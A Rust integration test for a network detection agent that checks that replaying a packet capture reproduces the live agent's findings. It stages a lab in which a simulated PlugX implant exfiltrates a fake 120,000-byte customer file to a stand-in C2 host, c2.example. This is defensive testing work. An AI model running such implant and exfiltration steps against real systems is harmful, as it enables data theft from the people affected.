//! Replay of a capture says what the live agent said that saw the same packets, and says it the same way every time.

#![allow(
    clippy::expect_used,
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    reason = "a laboratory fails loudly"
)]

use sekisho_integration::lab::agent::{events, findings, replay};
use sekisho_integration::topology::{BACKUP, C2, MIRROR, RESOLVER, WEB};
use sekisho_integration::{AgentSetup, Network, PolicyText, wait_for};
use sekisho_schema::{Body, Envelope, Finding};
use std::time::Duration;

/// A finding as both must tell it. The frame is counted from the start of each; process, place and which addresses are
/// its own (so that the sentence may name the host instead) only a live host knows.
fn comparable(events: &[Envelope]) -> Vec<Finding> {
    let told = events.iter().filter_map(|line| match &line.body {
        Body::Finding(finding) => Some((**finding).clone()),
        _ => None,
    });
    let mut told: Vec<Finding> = told
        .map(|finding| {
            let explanation = finding.explanation.replacen(WEB, "web-1", 1);
            Finding { frame: 0, process: None, place: None, explanation, ..finding }
        })
        .map(|finding| {
            // Live, two sockets may give the frames of a millisecond in another order than the capture:
            // which of several like messages of theft is named first is then another (ADR 11).
            if !finding.explanation.contains("file theft") {
                return finding;
            }
            let matched_at = finding.first_packet_at;
            let (explanation, evidence) = ("theft in a flow that was found".to_owned(), Vec::new());
            Finding { id: String::new(), matched_at, explanation, evidence, ..finding }
        })
        .collect();
    told.sort_by(|a, b| (a.matched_at, &a.id).cmp(&(b.matched_at, &b.id)));
    told
}

#[test]
fn replay_says_what_the_live_agent_said_and_says_it_the_same_every_time() {
    let network = Network::build();
    let dir = network.lab.dir();
    let (loot, pcap, policy_file) =
        (dir.join("loot"), dir.join("live.pcap"), dir.join("policy.toml"));
    std::fs::write(&loot, sekisho_integration::actors::customers_file(120_000)).unwrap();
    let policy = PolicyText::new(1, "dry-run");
    std::fs::write(&policy_file, policy.toml()).unwrap();
    let _web = network.web.actor(&["http-serve", "--port", "80"]);
    let _mirror = network.mirror.actor(&["http-serve", "--port", "80"]);
    let _backup = network.backup.actor(&["http-serve", "--port", "8200"]);
    let _resolver = network.gw.actor(&[
        "dns-serve",
        "--table",
        &format!("c2.example={C2},mirror.example={MIRROR}"),
    ]);
    let c2 =
        network.c2.actor(&["plugx-c2", "--settings", "443=T2-20140509", "--theft-after-ms", "300"]);
    let setup = AgentSetup::new(&network.web, dir, "agent");
    setup.seal(&policy);
    let agent = setup.start();
    let mut tap = network.web.actor(&["capture", "--dev", "eth0", "--out", pcap.to_str().unwrap()]);
    let customers = network.customers.actor(&["browse", "--to", &format!("{WEB}:80")]);
    let updates = network.web.actor(&["updates", "--to", &format!("{MIRROR}:80")]);
    let backup =
        network.web.actor(&["backup", "--to", &format!("{BACKUP}:8200"), "--bytes", "30000"]);
    let mut implant = network.web.actor(&[
        "plugx-client",
        "--to",
        "192.0.2.1:443",
        "--resolver",
        RESOLVER,
        "--name",
        "c2.example",
        "--setting",
        "T2-20140509",
        "--keep-alive-ms",
        "100",
        "--file",
        loot.to_str().unwrap(),
    ]);
    wait_for("the theft to end", Duration::from_secs(10), || {
        (implant.ask("report")["finished"] == true).then_some(())
    });
    assert_eq!(c2.finish()["stolen_bytes"], 120_000);
    drop((customers, updates, backup));
    // What is still under way belongs to both or to none.
    std::thread::sleep(Duration::from_millis(500));
    tap.ask("stop");
    agent.finding("plugx.tcp", Duration::from_secs(5));
    let live = agent.journal();
    agent.stop();
    let arguments = ["--host", "web-1", "--policy", policy_file.to_str().unwrap()];
    let first = replay(&[&pcap], &arguments);
    assert!(
        first == replay(&[&pcap], &arguments),
        "the same capture gave other bytes the second time"
    );
    let replayed = events(&first);
    let (live_told, replay_told) = (comparable(&live), comparable(&replayed));
    assert!(!findings(&live, "plugx.tcp").is_empty(), "the live agent found nothing");
    assert_eq!(live_told, replay_told);
    let Body::Summary(summary) = &replayed.last().unwrap().body else {
        panic!("the last line of a replay is its summary")
    };
    assert_eq!(summary.findings.values().sum::<u64>(), replay_told.len() as u64);
    assert_eq!(findings(&live, "plugx.tcp")[0].name.as_deref(), Some("c2.example"));
    assert!(
        findings(&live, "plugx.tcp")[0]
            .process
            .as_ref()
            .is_some_and(|process| process.exe.is_some()),
        "the live agent knows whose flow it was"
    );
}
